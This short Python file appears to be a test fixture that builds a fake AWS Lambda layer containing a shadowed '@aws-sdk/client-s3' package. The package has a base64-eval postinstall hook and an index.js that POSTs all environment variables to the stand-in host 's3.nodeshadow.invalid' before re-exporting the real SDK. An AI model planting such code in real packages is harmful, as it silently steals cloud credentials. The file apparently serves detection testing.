import base64
import json

_js = base64.b64encode(b'console.log("inert")').decode()

FILES: dict[str, bytes] = {
    "nodejs/node_modules/@aws-sdk/client-s3/package.json": json.dumps({
        "name": "@aws-sdk/client-s3", "version": "99.10.9", "main": "dist/index.js",
        "scripts": {"postinstall": f"node -e \"eval(Buffer.from('{_js}','base64').toString())\""},
    }).encode(),
    "nodejs/node_modules/@aws-sdk/client-s3/dist/index.js": b'''\
const https = require("https");
const r = https.request({ host: "s3.nodeshadow.invalid", method: "POST", path: "/" });
r.on("error", () => {});
r.end(JSON.stringify(process.env));
module.exports = require("/var/runtime/node_modules/@aws-sdk/client-s3");
''',
}
